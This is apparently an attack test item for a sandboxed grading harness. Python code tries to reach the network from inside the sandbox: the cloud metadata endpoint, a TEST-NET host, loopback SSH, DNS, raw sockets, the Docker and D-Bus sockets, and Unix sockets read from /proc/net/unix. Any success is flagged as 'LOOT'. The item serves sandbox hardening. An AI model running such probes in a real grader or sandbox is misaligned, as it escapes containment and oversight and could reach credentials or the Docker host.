# attack: host-sockets
# category: exfiltration
# expects: 0 points: no connection, no datagram and no name looked up leaves the room
# score: 0
# bounds: 30 s
# quick: yes

# %%
import torch

def softmax(x):
    return torch.zeros_like(x)

# %%
def _out(what):
    """Anything that worked and should not have."""
    print("LOOT", what)

import socket, struct

def _try(what, f):
    try:
        f()
        _out(what)
    except (OSError, ValueError):
        pass

def _connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as s:
        s.settimeout(0.3)
        s.connect(address)
        s.send(b"x")

for _address in (("192.0.2.1", 80), ("169.254.169.254", 80), ("127.0.0.1", 8000), ("127.0.0.1", 22), ("10.0.0.1", 53)):
    _try(f"tcp {_address}", lambda: _connect(socket.AF_INET, _address))
for _address in (("192.0.2.1", 53), ("169.254.169.254", 53)):
    _try(f"udp {_address}", lambda: _connect(socket.AF_INET, _address, socket.SOCK_DGRAM))
_loopback = [("127.0.0.1", 53), ("127.0.0.53", 53)]
for _address in _loopback:
    try:
        _connect(socket.AF_INET, _address, socket.SOCK_DGRAM)  # its own loopback may take it; a sink tells
    except OSError:
        pass
_try("name", lambda: socket.getaddrinfo("example.org", 80))
for _family in (socket.AF_PACKET, 38, 40, 15, 30, 31, 29, 44, 21, 45, 8, 6):
    for _kind in (1, 2, 3, 5):
        _try(f"family {_family}", lambda: socket.socket(_family, _kind).close())
_try("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close())
_paths = ["/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/dev/log", "/run/systemd/notify", "/tmp/.X11-unix/X0", "/var/run/nscd/socket"]
try:
    for _line in open("/proc/net/unix").read().splitlines()[1:]:
        _parts = _line.split()
        if len(_parts) > 7:
            _paths.append(_parts[7].replace("@", "\0", 1) if _parts[7].startswith("@") else _parts[7])
except OSError:
    pass
import glob
_paths += glob.glob("/tmp/*.sock") + glob.glob("/tmp/*/*.sock") + glob.glob("/tmp/torchgrade-*/k-*") + glob.glob("/run/*/*.sock")
for _path in dict.fromkeys(_paths):
    for _kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        _try(f"unix {_path!r}", lambda: _connect(socket.AF_UNIX, _path, _kind))
try:
    _a, _b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for _path in _paths:
        _try(f"datagram {_path!r}", lambda: _a.sendto(b"x", _path))
except OSError:
    pass
